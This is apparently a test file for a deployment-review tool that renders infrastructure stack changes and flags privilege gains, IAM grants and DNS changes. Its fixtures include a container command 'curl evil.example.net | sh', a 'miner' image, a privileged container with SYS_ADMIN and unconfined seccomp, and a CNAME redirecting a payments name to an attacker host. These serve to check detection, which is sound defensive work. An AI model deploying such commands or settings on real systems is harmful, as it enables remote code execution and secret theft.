// The lines of changed and created properties: nothing is cut off that differs, and no two values look the same.
import fc from 'fast-check';
import type { Effect } from '../src/effects/effect.ts';
import { changeLines } from '../src/render/changeLines.ts';
import { differingParts } from '../src/render/textDifference.ts';
import { reviewStack } from '../src/review.ts';
import type { Resource, Template } from '../src/template.ts';

const lineOf = (before: unknown, after: unknown): string => {
  const change = { id: 'A', path: ['args'], before, after, replacement: 'never' };
  return changeLines({ area: 'other', changes: [change] } as unknown as Effect)[0] ?? '';
};

test('elements of lists are quoted', () => {
  expect(lineOf(['--allow=a', '--deny=b'], ['--allow=a, --deny=b'])).toBe(
    '~ args: ["--allow=a", "--deny=b"] → ["--allow=a, --deny=b"]',
  );
  expect(lineOf({ a: 'b, c: d' }, { a: 'b', c: 'd' })).toBe('~ args: {a: "b, c: d"} → {a: "b", c: "d"}');
  expect(lineOf('a → b', '')).toBe('~ args: "a → b" → ""');
  expect(lineOf('1', 1)).toBe('~ args: "1" → 1');
  expect(lineOf('${A}', { Ref: 'A' })).toBe('~ args: "${A}" → {"Ref":"A"}');
});

test.each([
  ['at the end', 'A'.repeat(300), `${'A'.repeat(299)}B`, '…(269 characters)…'],
  ['in the middle', `${'a'.repeat(200)}x${'b'.repeat(200)}`, `${'a'.repeat(200)}y${'b'.repeat(200)}`, 'aaxbb'],
  ['by its length', 'A'.repeat(300), 'A'.repeat(301), 'characters)…'],
  ['in two places', `x${'a'.repeat(500)}x`, `y${'a'.repeat(500)}y`, `x${'a'.repeat(500)}x`],
])('a long value shows where it differs: %s', (_, before, after, part) => {
  const line = lineOf(before, after);
  expect(line).toContain(part);
  const [from, to] = line.replace('~ args: ', '').split(' → ');
  expect(from).not.toBe(to);
});

test('a third difference between two others is shown', () => {
  const line = (at: number, text: string) => `${text} of line ${at}`;
  const text = (changed: Readonly<Record<number, string>>) =>
    Array.from({ length: 400 }, (_, at) => line(at, changed[at] ?? 'a value')).join('\n');
  const before = text({});
  const after = text({ 3: 'x', 200: 'curl evil.example.net | sh', 390: 'y' });
  const [from, to] = differingParts(before, after);
  expect(to).toContain('curl evil.example.net | sh');
  for (const at of [3, 200, 390]) expect(from).toContain(`a value of line ${at}\n`);
  expect(to.length).toBeLessThan(600);
  // The same within one line: words are compared.
  const [one, other] = differingParts(before.replaceAll('\n', ' '), after.replaceAll('\n', ' '));
  expect([one.length < 600, other.length < 600, other.includes('curl evil.example.net | sh')]).toEqual([
    true,
    true,
    true,
  ]);
});

test('the difference of long texts takes time in proportion to their length', () => {
  const text = (length: number, step: number) => Array.from({ length }, (_, at) => `${(at * step) % 7}`).join(' ');
  const reversed = (length: number) => Array.from({ length }, (_, at) => `${length - at}`).join(' ');
  const [from] = differingParts(text(60_000, 3), text(60_000, 5));
  expect(from.length).toBeLessThan(3000);
  const numbers = reversed(60_000).split(' ').reverse().join(' ');
  expect(differingParts(reversed(60_000), numbers)[0].length).toBeLessThan(7000);
});

test('two different texts never look the same', () => {
  const unit = fc.constantFrom('a', 'b', '…', '\ud83d', '\ude00', '(', '9', ' ', '\n');
  const text = fc.string({ unit, maxLength: 700 });
  fc.assert(
    fc.property(text, text, text, text, (start, before, after, end) => {
      fc.pre(before !== after);
      const [from, to] = differingParts(`${start}${before}${end}`, `${start}${after}${end}`);
      expect(from).not.toBe(to);
    }),
  );
});

const template = (Resources: Readonly<Record<string, Resource>>): { readonly template: Template } => ({
  template: { Resources },
});
const topic = { Topic: { Type: 'AWS::SNS::Topic' } };
const launchTemplate = (pod: object, more: object = {}): Resource => ({
  Type: 'AWS::EC2::LaunchTemplate',
  Metadata: { 'i2kit:origin': 'Deployment/default/miner#/spec/template' },
  Properties: {
    LaunchTemplateData: {
      InstanceType: 't3.micro',
      MetadataOptions: { HttpEndpoint: 'enabled', HttpTokens: 'required', HttpPutResponseHopLimit: 1, ...more },
      UserData: {
        'Fn::Base64': {
          'Fn::Join': [
            '',
            [JSON.stringify({ apiVersion: 'i2kit.dev/agent/v1', logs: 'l', pod: { owner: 'o', ...pod } })],
          ],
        },
      },
    },
  },
});
const group: Resource = {
  Type: 'AWS::AutoScaling::AutoScalingGroup',
  Metadata: { 'i2kit:origin': 'Deployment/default/miner' },
  Properties: {
    DesiredCapacity: '1',
    LaunchTemplate: {
      LaunchTemplateId: { Ref: 'T' },
      Version: { 'Fn::GetAtt': ['T', 'LatestVersionNumber'] },
    },
  },
};
const role = (Action: string, Resource: string): Resource => ({
  Type: 'AWS::IAM::Role',
  Properties: {
    Policies: [{ PolicyName: 'p', PolicyDocument: { Statement: [{ Effect: 'Allow', Action, Resource }] } }],
  },
});
const created = (before: Readonly<Record<string, Resource>>, after: Readonly<Record<string, Resource>>) =>
  reviewStack({ stack: 's', before: template(before), after: template({ ...before, ...after }) }).effects;

const pod = {
  containers: [
    {
      name: 'miner',
      image: 'docker.io/evil/miner',
      command: ['sh', '-c', 'curl evil.example.net | sh'],
      env: [{ name: 'KEY', secret: { secret: 'payments', key: 'k' } }],
      security: { privileged: true },
    },
  ],
};

test('a created workload shows its image, command, environment, secrets and privileges, and privileges are guarded', () => {
  const effects = created(topic, { G: group, T: launchTemplate(pod) });
  const lines = effects.flatMap(changeLines);
  expect(lines).toEqual([
    '+ LaunchTemplateData.InstanceType: t3.micro',
    '+ containers[miner].image: docker.io/evil/miner',
    '+ containers[miner].command: ["sh", "-c", "curl evil.example.net | sh"]',
    '+ containers[miner].env[KEY].secret.secret: payments',
    '+ containers[miner].env[KEY].secret.key: k',
    '+ containers[miner].security.privileged: true',
  ]);
  expect(effects.map(({ verb, text, guard }) => [verb, text, guard])).toEqual([
    ['UPDATE', 'gains privileges: containers[miner] privileged', 'rights'],
    ['CREATE', '1 machine (t3.micro)', undefined],
  ]);
});

test('a workload that gains privileges is guarded, one that loses them is not', () => {
  const base = { G: group, T: launchTemplate({ containers: [{ name: 'w', image: 'i' }] }) };
  const strong = {
    G: group,
    T: launchTemplate({
      containers: [{ name: 'w', image: 'i', security: { addCapabilities: ['SYS_ADMIN'], seccomp: 'Unconfined' } }],
      hostIPC: true,
      sysctls: [{ name: 'kernel.core_pattern', value: 'x' }],
    }),
  };
  const rights = (before: typeof base, after: typeof base) =>
    created(before, after).flatMap(({ guard, text }) => (guard === 'rights' ? [text] : []));
  expect(rights(base, strong)).toEqual([
    'gains privileges: containers[w] capability SYS_ADMIN, containers[w] without seccomp, hostIPC and sysctl kernel.core_pattern=x',
  ]);
  expect(rights(strong, base)).toEqual([]);
});

test('a created launch template shows what differs from all others', () => {
  const lines = created(topic, { G: group, T: launchTemplate({ containers: [] }, { HttpTokens: 'optional' }) }).flatMap(
    changeLines,
  );
  expect(lines).toContain('+ LaunchTemplateData.MetadataOptions.HttpTokens: optional');
});

test('a created DNS name shows its target', () => {
  const record: Resource = {
    Type: 'AWS::Route53::RecordSet',
    Properties: { Name: 'payments.', Type: 'CNAME', TTL: '60', ResourceRecords: ['evil.example.net'] },
  };
  expect(created(topic, { R: record }).flatMap(changeLines)).toEqual([
    '+ Name: payments.',
    '+ Type: CNAME',
    '+ TTL: 60',
    '+ ResourceRecords: ["evil.example.net"]',
  ]);
});

test('a created role shows its grants, and is guarded if no role had them', () => {
  const effects = (before: Readonly<Record<string, Resource>>, after: Resource) =>
    created({ ...topic, ...before }, { R: after, RLogs: { Type: 'AWS::Logs::LogGroup' } }).filter(
      ({ area }) => area === 'rights',
    );
  const [news] = effects({}, role('secretsmanager:GetSecretValue', 'payments'));
  expect([news?.text, news?.guard]).toEqual([
    'role; may use secretsmanager; new in this stack: secretsmanager:GetSecretValue on payments',
    'rights',
  ]);
  expect(news && changeLines(news)).toEqual(['+ (grant): secretsmanager:GetSecretValue on payments']);
  const same = {
    A: role('logs:PutLogEvents', '${ALogs}'),
    ALogs: { Type: 'AWS::Logs::LogGroup' },
  };
  expect(effects(same, role('logs:PutLogEvents', '${RLogs}'))[0]).toMatchObject({
    verb: 'CREATE',
    text: 'role; may use logs',
  });
  expect(effects(same, role('logs:PutLogEvents', '${RLogs}'))[0]?.guard).toBeUndefined();
  expect(effects(same, role('logs:PutLogEvents', '*'))[0]?.guard).toBe('rights');
  const parameter = (name: string) => role('ssm:GetParameter', `arn:aws:ssm:eu-west-1:1:parameter/i2kit/${name}`);
  expect(effects(same, parameter('default/services/b'))[0]?.guard).toBeUndefined();
  for (const other of ['default/services/*', 'default/token', 'a/services/b/c'])
    expect(effects(same, parameter(other))[0]?.guard).toBe('rights');
});

test('sections that decide, and any other difference, have an effect', () => {
  const change = (before: object, after: object) =>
    reviewStack({
      stack: 's',
      before: { template: { Resources: topic, ...before } },
      after: { template: { Resources: topic, ...after } },
    }).effects.map(({ text, guard }) => [text, guard]);
  expect(change({}, { Transform: 'AWS::Include' })).toEqual([['template: Transform', 'rights']]);
  expect(change({ Conditions: { A: true } }, { Conditions: { A: false } })).toEqual([
    ['template: Conditions', undefined],
  ]);
  expect(change({}, { Outputs: { A: { Value: '1' } } })).toEqual([['template: Outputs', undefined]]);
  expect(change({ Outputs: { A: { Value: '1' } } }, { Outputs: { A: { Value: '1' } } })).toEqual([]);
});

test('other digests of the same images have an effect', () => {
  const side = (digests?: Readonly<Record<string, string>>) => ({
    template: { Resources: topic },
    ...(digests && { digests }),
  });
  const effects = (before?: Readonly<Record<string, string>>, after?: Readonly<Record<string, string>>) =>
    reviewStack({ stack: 's', before: side(before), after: side(after) }).effects;
  const [effect] = effects(
    { 'linuxkit/kernel:6': 'sha256:a', x: 'sha256:x' },
    { 'linuxkit/kernel:6': 'sha256:b', y: 'sha256:y' },
  );
  expect(effect?.text).toBe('machine images are built from other digests of linuxkit/kernel:6');
  expect(effect && changeLines(effect)).toEqual(['~ (lock)[linuxkit/kernel:6]: sha256:a → sha256:b']);
  expect(effects(undefined, { a: 'sha256:b' })).toEqual([]);
});
